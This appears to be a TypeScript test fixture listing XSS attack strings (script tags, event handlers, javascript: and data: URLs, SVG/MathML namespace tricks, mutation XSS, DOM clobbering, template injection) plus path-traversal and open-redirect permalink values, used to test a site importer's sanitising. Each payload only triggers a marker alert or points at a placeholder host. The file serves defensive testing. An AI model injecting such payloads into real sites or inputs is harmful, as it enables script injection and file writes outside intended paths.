// Attack strings for the hostile archive (tests/security/write-hostile-archive.ts). Every payload that could run
// calls `alert('xss:<id>')` or navigates to `https://xss.invalid/`, so a browser test can tell which one ran.

/** One attack: where it goes and what it is. */
export interface Vector {
  /** Short, unique, used in file names and the test's report. */
  id: string;
  /** The class of attack, e.g. "script", "event handler", "url scheme". */
  kind: string;
  payload: string;
  /**
   * Why the payload, parsed as it is by an HTML5 parser, holds nothing that runs: it attacks filters that rewrite
   * markup (a naive `<script>` remover, a serializer that turns CDATA into markup).
   */
  inertAsParsed?: string;
}

const run = (id: string) => `alert('xss:${id}')`;

/** Vectors for article bodies (HTML, or Markdown with HTML inside). */
export const BODY_VECTORS: Vector[] = [
  // <script> in its spellings.
  { id: 'script', kind: 'script', payload: `<script>${run('script')}</script>` },
  { id: 'script-upper-src', kind: 'script', payload: `<SCRIPT SRC=https://xss.invalid/a.js></SCRIPT>` },
  {
    id: 'script-split',
    kind: 'script',
    payload: `<scr<script>ipt>${run('script-split')}</scr</script>ipt>`,
    inertAsParsed: 'parsed, it is an element named "scr<script"; it becomes a script only if a filter removes the inner tag',
  },
  { id: 'script-unclosed', kind: 'script', payload: `<script>${run('script-unclosed')}` },
  { id: 'script-type', kind: 'script', payload: `<script type="text/javascript">${run('script-type')}</script><script type="module">${run('script-module')}</script>` },
  { id: 'script-slash', kind: 'script', payload: `<script/xss src="https://xss.invalid/b.js"></script>` },
  // Event handlers on every kind of element.
  { id: 'img-onerror', kind: 'event handler', payload: `<img src=x onerror="${run('img-onerror')}">` },
  { id: 'img-onerror-unquoted', kind: 'event handler', payload: `<IMG SRC=x ONERROR=${run('img-onerror-unquoted')}>` },
  { id: 'svg-onload', kind: 'event handler', payload: `<svg onload="${run('svg-onload')}"><circle r="1"/></svg>` },
  { id: 'body-onload', kind: 'event handler', payload: `<body onload="${run('body-onload')}">` },
  { id: 'details-ontoggle', kind: 'event handler', payload: `<details open ontoggle="${run('details-ontoggle')}"><summary>s</summary></details>` },
  { id: 'input-onfocus', kind: 'event handler', payload: `<input autofocus onfocus="${run('input-onfocus')}">` },
  { id: 'video-onerror', kind: 'event handler', payload: `<video><source onerror="${run('video-onerror')}"></video>` },
  { id: 'a-onmouseover', kind: 'event handler', payload: `<a href="https://example.com/" onmouseover="${run('a-onmouseover')}" onclick="${run('a-onclick')}">link</a>` },
  { id: 'p-onanimationstart', kind: 'event handler', payload: `<p style="animation:spin 1s" onanimationstart="${run('p-onanimationstart')}">p</p>` },
  { id: 'marquee-onstart', kind: 'event handler', payload: `<marquee onstart="${run('marquee-onstart')}">m</marquee>` },
  // URL schemes: javascript:, vbscript:, data:, encoded, with tabs and newlines, mixed case.
  { id: 'href-js', kind: 'url scheme', payload: `<a href="javascript:${run('href-js')}">a</a>` },
  { id: 'href-js-case', kind: 'url scheme', payload: `<a href="JaVaScRiPt:${run('href-js-case')}">a</a>` },
  { id: 'href-js-tab', kind: 'url scheme', payload: `<a href="jav\tascript:${run('href-js-tab')}">a</a><a href="java\nscript:${run('href-js-newline')}">b</a>` },
  { id: 'href-js-entities', kind: 'url scheme', payload: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run('href-js-entities')}">a</a>` },
  { id: 'href-js-hex', kind: 'url scheme', payload: `<a href="&#x6A;avascript&#x3A;${run('href-js-hex')}">a</a><a href="jav&#x09;ascript:${run('href-js-tab-entity')}">b</a>` },
  { id: 'href-js-space', kind: 'url scheme', payload: `<a href="  javascript:${run('href-js-space')}">a</a><a href="\u0001javascript:${run('href-js-control')}">b</a>` },
  { id: 'href-vbscript', kind: 'url scheme', payload: `<a href="vbscript:msgbox(1)">a</a>` },
  { id: 'href-data', kind: 'url scheme', payload: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzOmRhdGEnKTwvc2NyaXB0Pg==">a</a>` },
  { id: 'img-src-js', kind: 'url scheme', payload: `<img src="javascript:${run('img-src-js')}"><img src="data:image/svg+xml,<svg onload=${run('img-src-data')}>">` },
  { id: 'svg-xlink', kind: 'url scheme', payload: `<svg><a xlink:href="javascript:${run('svg-xlink')}"><text x="0" y="10">x</text></a></svg>` },
  // SVG and MathML namespace confusion.
  { id: 'svg-script', kind: 'namespace', payload: `<svg><script>${run('svg-script')}</script></svg>` },
  { id: 'svg-foreign', kind: 'namespace', payload: `<svg><foreignObject><iframe srcdoc="<script>${run('svg-foreign')}</script>"></iframe></foreignObject></svg>` },
  { id: 'math-mglyph', kind: 'namespace', payload: `<math><mtext><table><mglyph><style><img src=x onerror="${run('math-mglyph')}">` },
  { id: 'math-href', kind: 'namespace', payload: `<math href="javascript:${run('math-href')}"><mi>x</mi></math>` },
  { id: 'svg-style', kind: 'namespace', payload: `<svg><style><img src=x onerror="${run('svg-style')}"></style></svg>` },
  // Embedded documents and objects.
  { id: 'iframe-srcdoc', kind: 'embed', payload: `<iframe srcdoc="<script>parent.${run('iframe-srcdoc')}</script>"></iframe>` },
  { id: 'iframe-js', kind: 'embed', payload: `<iframe src="javascript:parent.${run('iframe-js')}"></iframe>` },
  { id: 'iframe-data', kind: 'embed', payload: `<iframe src="data:text/html,<script>parent.${run('iframe-data')}</script>"></iframe>` },
  { id: 'object', kind: 'embed', payload: `<object data="javascript:${run('object')}"></object><object data="https://xss.invalid/x.swf" type="application/x-shockwave-flash"></object>` },
  { id: 'embed', kind: 'embed', payload: `<embed src="data:text/html,<script>${run('embed')}</script>">` },
  // Elements that change the page around them.
  { id: 'meta-refresh', kind: 'page takeover', payload: `<meta http-equiv="refresh" content="0;url=https://xss.invalid/">` },
  { id: 'base-href', kind: 'page takeover', payload: `<base href="https://xss.invalid/">` },
  { id: 'form-action', kind: 'page takeover', payload: `<form action="https://xss.invalid/"><input name="q" value="x"><button>go</button></form>` },
  { id: 'formaction', kind: 'page takeover', payload: `<button formaction="javascript:${run('formaction')}">b</button>` },
  { id: 'link-stylesheet', kind: 'page takeover', payload: `<link rel="stylesheet" href="https://xss.invalid/x.css"><link rel="preload" as="script" href="https://xss.invalid/c.js">` },
  // CSS.
  { id: 'css-expression', kind: 'css', payload: `<div style="width:expression(${run('css-expression')})">d</div>` },
  { id: 'css-url-js', kind: 'css', payload: `<div style="background:url(javascript:${run('css-url-js')})">d</div><div style="background-image:url('https://xss.invalid/bg.png')">e</div>` },
  { id: 'style-leak', kind: 'css', payload: `<style>body{display:none!important}</style><style>@import 'https://xss.invalid/x.css';</style>` },
  // DOM clobbering through id and name.
  { id: 'clobber-ids', kind: 'dom clobbering', payload: `<form id="search" name="cookie"><input name="action"></form><img name="getElementById"><a id="defaultView" name="body"></a>` },
  { id: 'clobber-globals', kind: 'dom clobbering', payload: `<div id="__proto__"></div><a id="pagefind"></a><a id="shards" name="shards"></a><div id="theme-toggle"></div>` },
  // Mutation XSS through parser differences.
  { id: 'mxss-noscript', kind: 'mutation xss', payload: `<noscript><p title="</noscript><img src=x onerror=${run('mxss-noscript')}>"></noscript>` },
  { id: 'mxss-template', kind: 'mutation xss', payload: `<template><script>${run('mxss-template')}</script><img src=x onerror="${run('mxss-template-img')}"></template>` },
  { id: 'mxss-comment', kind: 'mutation xss', payload: `<!--<img src=x onerror=${run('mxss-comment')}>--><!--><img src=x onerror=${run('mxss-comment-2')}>--><!--!><img src=x onerror=${run('mxss-comment-3')}>-->` },
  { id: 'mxss-textarea', kind: 'mutation xss', payload: `<textarea></textarea><img src=x onerror=${run('mxss-textarea')}></textarea><title><img src=x onerror=${run('mxss-title')}></title>` },
  {
    id: 'mxss-cdata',
    kind: 'mutation xss',
    payload: `<svg><![CDATA[><img src=x onerror=${run('mxss-cdata')}>]]></svg>`,
    inertAsParsed: 'parsed, the CDATA section is text; it becomes an <img> only if a serializer writes it out unescaped',
  },
  // Values that end up in JSON or inline scripts.
  { id: 'json-breakout', kind: 'json', payload: `<p>\u2028</script><script>${run('json-breakout')}</script>\u2029</p>` },
];

/**
 * Vectors for front-matter strings: each is put in `title`, a category, a tag, `author` and `description`; the
 * URL fields and the permalink get their own below.
 */
export const TEXT_VECTORS: Vector[] = [
  { id: 't-script', kind: 'script', payload: `<script>${run('t-script')}</script>` },
  { id: 't-title-close', kind: 'script', payload: `</title><script>${run('t-title-close')}</script>` },
  { id: 't-attribute', kind: 'attribute breaking', payload: `"><img src=x onerror=${run('t-attribute')}>` },
  { id: 't-single-quote', kind: 'attribute breaking', payload: `' onmouseover='${run('t-single-quote')}' x='` },
  { id: 't-json', kind: 'json', payload: `</script><script>${run('t-json')}</script>\u2028\u2029"}` },
  { id: 't-entities', kind: 'entities', payload: `&lt;script&gt;${run('t-entities')}&lt;/script&gt; &amp; &#60;b&#62;` },
  { id: 't-cdata', kind: 'xml', payload: `]]><script>${run('t-cdata')}</script><![CDATA[` },
  { id: 't-template', kind: 'template', payload: `{{constructor.constructor('${run('t-template')}')()}} \${${run('t-template-2')}}` },
];

/** Vectors for the image URL fields (`headimg`, `thumbnail`, `cover`). */
export const URL_VECTORS: Vector[] = [
  { id: 'u-js', kind: 'url scheme', payload: `javascript:${run('u-js')}` },
  { id: 'u-js-case', kind: 'url scheme', payload: ` JavaScript:${run('u-js-case')}` },
  { id: 'u-data', kind: 'url scheme', payload: `data:image/svg+xml,<svg onload=${run('u-data')}>` },
  { id: 'u-quote', kind: 'attribute breaking', payload: `https://example.com/a.jpg" onerror="${run('u-quote')}` },
  { id: 'u-single-quote', kind: 'attribute breaking', payload: `https://example.com/a.jpg' onerror='${run('u-single-quote')}` },
  { id: 'u-angle', kind: 'attribute breaking', payload: `https://example.com/"><script>${run('u-angle')}</script>` },
];

/** Vectors for `permalink` and `slug`. */
export const PERMALINK_VECTORS: Vector[] = [
  { id: 'p-climb', kind: 'path traversal', payload: '../../../../tmp/clippings-escaped/' },
  { id: 'p-script', kind: 'script', payload: `x/<script>${run('p-script')}<\\/script>/` },
  { id: 'p-js', kind: 'url scheme', payload: `javascript:${run('p-js')}` },
  { id: 'p-encoded', kind: 'path traversal', payload: '%2e%2e/%2e%2e/escaped/' },
  { id: 'p-absolute', kind: 'open redirect', payload: '//xss.invalid/x/' },
];
